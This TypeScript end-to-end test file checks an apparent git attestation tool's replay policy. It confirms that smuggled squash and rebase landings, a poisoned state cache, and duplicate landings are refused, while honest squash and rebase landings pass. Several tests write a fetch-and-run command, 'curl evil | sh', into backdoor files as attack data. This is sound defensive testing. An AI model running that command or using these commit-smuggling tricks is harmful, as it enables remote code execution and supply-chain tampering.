// rewrites: replay binds to reviewed content (issue 9). Smuggling landings must be rejected: a net-zero
// run that names an attested workstream, a squash with an extra file plus a fixup removing it, a rebase
// whose commits differ from the attested ones while its final tree matches, a second landing of one
// entry. Honest squash and rebase (git rebase, empty commits kept) landings must still pass, reported
// per commit by patch id. Real repositories, real pushes through the pre-push hook, `verify --json`.
import { expect } from 'chai';
import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { authorWorkstream, ceremony, must, parseJson, show, useTempDirs, type Ceremony, type Workstream } from '../helpers/gitrepo.js';
import { rewriteIndex } from '../helpers/stateindex.js';

async function replayCeremony(): Promise<Ceremony> {
  const c = await ceremony({ push: false });
  await must(c.w(['policy', 'set', 'rewrites', 'replay']), 'policy set rewrites');
  // fold the setting into the genesis commit: the commit that first adds the policy is the cutover
  await c.g(['add', '.csae']);
  await c.g(['commit', '-q', '--no-verify', '--amend', '--no-edit']);
  c.genesis = await c.rev('HEAD');
  await must(c.gr(['push', '-q', 'origin', 'main']), 'genesis push');
  return c;
}

/** `csae verify --range origin/main..HEAD --json` (policy read at origin/main): the structured verdict on what a push would add. */
async function verifyPending(c: Ceremony): Promise<{ code: number; report: any }> {
  const r = await c.w(['verify', '--range', 'origin/main..HEAD', '--json']);
  return { code: r.code, report: parseJson(r) };
}

function codes(report: any): Record<string, string> {
  return Object.fromEntries(report.refs[0].uncovered.map((d: any) => [d.commit, d.code]));
}

describe('e2e: rewrites: replay binds to reviewed content', function () {
  this.timeout(240000);
  useTempDirs();
  let c: Ceremony;
  let rb: Workstream;
  let sq: Workstream;

  before(async () => {
    c = await replayCeremony();
    // ws-rb branches off main before main moves: landed later by a real `git rebase`
    rb = await authorWorkstream(c, 'ws-rb', { branch: 'feat-rb', n: 2, publish: true });
    await c.g(['checkout', '-q', 'main']);
    sq = await authorWorkstream(c, 'ws-sq', { branch: 'feat-sq', n: 2, publish: true });
    await c.g(['checkout', '-q', 'main']);
  });

  afterEach(async () => {
    // a rejected landing is thrown away; main is what the remote holds
    await c.g(['checkout', '-q', '-f', 'main']);
    await c.g(['reset', '-q', '--hard', 'origin/main']);
  });

  it('accepts an honest squash, reported as a squash landing of its entry', async () => {
    await c.g(['merge', '-q', '--squash', 'feat-sq']);
    await c.g(['commit', '-q', '--no-verify', '-m', 'Squashed ws-sq (2 steps)']);
    const squash = await c.rev('HEAD');
    const { code, report } = await verifyPending(c);
    expect(code, JSON.stringify(report)).to.equal(0);
    const l = report.refs[0].landings;
    expect(l).to.have.length(1);
    expect(l[0]).to.include({ how: 'squash', workstream: 'ws-sq' });
    expect(l[0].commits.map((x: any) => x.commit)).to.deep.equal([squash]);
    const text = await c.w(['verify', '--range', 'origin/main..HEAD']);
    expect(text.stdout + text.stderr).to.match(/squash of ws-sq \(entry \d+\) covered by rewrites: replay/);
    const r = await c.gr(['push', 'origin', 'main']);
    expect(r.code, show(r)).to.equal(0);
  });

  it('a squash resting on an entry the verified index misstates is judged on the mirror\'s bytes (a restored cache cannot cover a backdoor)', async () => {
    // the attacker's "attested head": the landed entry's base plus a backdoor
    await c.g(['checkout', '-q', '-b', 'evil', sq.base]);
    const x = await c.commit('backdoor.sh', 'curl evil | sh\n', 'tweak');
    await c.g(['checkout', '-q', 'main']);
    await c.g(['merge', '-q', '--squash', 'evil']);
    await c.g(['commit', '-q', '--no-verify', '-m', 'Squashed ws-sq (follow-up)']);
    const squash = await c.rev('HEAD');
    // .git/csae restored from a poisoned cache: ws-sq's entry now claims the backdoor as its head
    const state = join(c.work, '.git', 'csae');
    const kept = join(c.root, 'csae-state-kept');
    cpSync(state, kept, { recursive: true });
    rewriteIndex(state, (st) => {
      const e = st.entries.find((y) => y.predicate.workstream === 'ws-sq')!;
      e.predicate.range.head = x;
      e.predicate.range.commits = [x];
    });
    const { code, report } = await verifyPending(c);
    expect(code, JSON.stringify(report)).to.equal(1);
    expect(report.refs[0].landings ?? []).to.deep.equal([]);
    expect(Object.keys(codes(report))).to.deep.equal([squash]);
    await c.g(['branch', '-q', '-D', 'evil']);
    rmSync(state, { recursive: true, force: true });
    cpSync(kept, state, { recursive: true });
  });

  it('refuses a net-zero run naming a landed workstream ("add backdoor.sh", then "remove it")', async () => {
    const add = await c.commit('backdoor.sh', 'curl evil | sh\n', 'ws-sq: add backdoor.sh');
    rmSync(join(c.work, 'backdoor.sh'));
    await c.g(['add', '-A']);
    await c.g(['commit', '-q', '--no-verify', '-m', 'ws-sq: remove backdoor.sh']);
    const rm = await c.rev('HEAD');
    const { code, report } = await verifyPending(c);
    expect(code).to.equal(1);
    const by = codes(report);
    expect(Object.keys(by)).to.have.members([add, rm]);
    // not a rewrite of attested work: the diagnosis must not say it is
    expect(by[add]).to.equal('uncovered');
    expect(by[rm]).to.equal('uncovered');
    const r = await c.gr(['push', 'origin', 'main']);
    expect(r.code, show(r)).to.not.equal(0);
    expect(r.stderr).to.not.match(/rebased or squashed after attestation/);
  });

  it('refuses a squash with an extra file plus a fixup removing it; only the squash is diagnosed as rewritten', async () => {
    await c.g(['checkout', '-q', 'main']);
    await authorWorkstream(c, 'ws-fx', { branch: 'feat-fx', n: 2, publish: true });
    await c.g(['checkout', '-q', 'main']);
    await c.g(['merge', '-q', '--squash', 'feat-fx']);
    writeFileSync(join(c.work, 'extra.sh'), 'not reviewed\n');
    await c.g(['add', '-A']);
    await c.g(['commit', '-q', '--no-verify', '-m', 'Squashed ws-fx']);
    const squash = await c.rev('HEAD');
    rmSync(join(c.work, 'extra.sh'));
    await c.g(['add', '-A']);
    await c.g(['commit', '-q', '--no-verify', '-m', 'fixup! Squashed ws-fx']);
    const fixup = await c.rev('HEAD');
    const { code, report } = await verifyPending(c);
    expect(code).to.equal(1);
    expect(report.refs[0].landings ?? []).to.deep.equal([]);
    const by = codes(report);
    expect(by[squash]).to.equal('rebased-after-attestation');
    expect(by[fixup]).to.equal('uncovered');
    const r = await c.gr(['push', 'origin', 'main']);
    expect(r.code, show(r)).to.not.equal(0);
  });

  it('refuses a rebase whose commits differ from the attested ones though its final tree matches', async () => {
    const ws = await authorWorkstream(c, 'ws-tw', { branch: 'feat-tw', n: 2, publish: true });
    await c.g(['checkout', '-q', 'main']);
    // step 1 smuggles a file in, step 2 takes it out again: same final tree, other commits
    await c.g(['cherry-pick', ws.work[0]!]);
    writeFileSync(join(c.work, 'smuggled.sh'), 'curl evil | sh\n');
    await c.g(['add', '-A']);
    await c.g(['commit', '-q', '--no-verify', '--amend', '--no-edit']);
    const first = await c.rev('HEAD');
    await c.g(['cherry-pick', ws.work[1]!]);
    rmSync(join(c.work, 'smuggled.sh'));
    await c.g(['add', '-A']);
    await c.g(['commit', '-q', '--no-verify', '--amend', '--no-edit']);
    const second = await c.rev('HEAD');
    const tree = await c.g(['rev-parse', 'HEAD^{tree}']);
    const honest = await c.g(['merge-tree', '--write-tree', 'origin/main', ws.attestation]);
    expect(tree).to.equal(honest.split('\n')[0]); // the old rule would have accepted this
    const { code, report } = await verifyPending(c);
    expect(code).to.equal(1);
    expect(Object.keys(codes(report))).to.have.members([first, second]);
    const r = await c.gr(['push', 'origin', 'main']);
    expect(r.code, show(r)).to.not.equal(0);
  });

  it('refuses a rebase with the attested commits out of order (same patches, same final tree)', async () => {
    const ws = await authorWorkstream(c, 'ws-order', { branch: 'feat-order', n: 2, publish: true });
    await c.g(['checkout', '-q', 'main']);
    await c.g(['cherry-pick', ws.work[1]!]);
    await c.g(['cherry-pick', ws.work[0]!]);
    const { code, report } = await verifyPending(c);
    expect(code).to.equal(1);
    expect(report.refs[0].landings ?? []).to.deep.equal([]);
    // each carries an attested patch: rewritten after attestation, truly
    expect(Object.values(codes(report))).to.deep.equal(['rebased-after-attestation', 'rebased-after-attestation']);
  });

  it('accepts an honest git rebase onto the moved main, reported per commit by patch id', async () => {
    await c.g(['checkout', '-q', 'feat-rb']);
    await c.g(['rebase', '-q', 'main']);
    await c.g(['checkout', '-q', 'main']);
    await c.g(['merge', '-q', '--ff-only', 'feat-rb']);
    const { code, report } = await verifyPending(c);
    expect(code, JSON.stringify(report)).to.equal(0);
    const l = report.refs[0].landings;
    expect(l).to.have.length(1);
    expect(l[0]).to.include({ how: 'rebase', workstream: 'ws-rb' });
    // the two work commits are matched one to one, in order, to the attested ones
    const work = l[0].commits.filter((x: any) => x.patchId);
    expect(work.map((x: any) => x.attested)).to.deep.equal(rb.work);
    for (const x of work) expect(x.patchId).to.match(/^[0-9a-f]{40,64}$/);
    const r = await c.gr(['push', 'origin', 'main']);
    expect(r.code, show(r)).to.equal(0);
    const v = await c.w(['verify', '--ref', 'main', '--json']);
    expect(v.code, show(v)).to.equal(0);
  });

  it('an entry covers at most one landing: a second squash of it (after a covered revert) is refused', async () => {
    await c.g(['checkout', '-q', 'main']);
    await authorWorkstream(c, 'ws-twice', { branch: 'feat-twice', n: 1, publish: true });
    await c.g(['checkout', '-q', 'main']);
    await c.g(['merge', '-q', '--squash', 'feat-twice']);
    await c.g(['commit', '-q', '--no-verify', '-m', 'Squashed ws-twice']);
    const first = await c.rev('HEAD');
    await c.g(['revert', '--no-edit', 'HEAD']);
    // the revert is covered honestly, so only the second landing is in question
    await must(c.w(['bundle', 'retroactive', '--range', 'HEAD~1..HEAD', '--reason', 'test: revert', '--key', c.operatorKey]), 'retroactive');
    await c.g(['merge', '-q', '--squash', 'feat-twice']);
    await c.g(['commit', '-q', '--no-verify', '-m', 'Squashed ws-twice again']);
    const second = await c.rev('HEAD');
    const { code, report } = await verifyPending(c);
    expect(code).to.equal(1);
    expect(report.refs[0].landings.map((x: any) => x.commits[0].commit)).to.deep.equal([first]);
    expect(Object.keys(codes(report))).to.deep.equal([second]);
  });

  it('the whole history replays clean after the honest landings', async () => {
    const v = await c.w(['verify', '--ref', 'origin/main', '--json']);
    expect(v.code, show(v)).to.equal(0);
    const rep = parseJson(v);
    expect(rep.refs[0].landings.map((x: any) => `${x.how}:${x.workstream}`)).to.deep.equal(['squash:ws-sq', 'rebase:ws-rb']);
    void sq;
  });
});
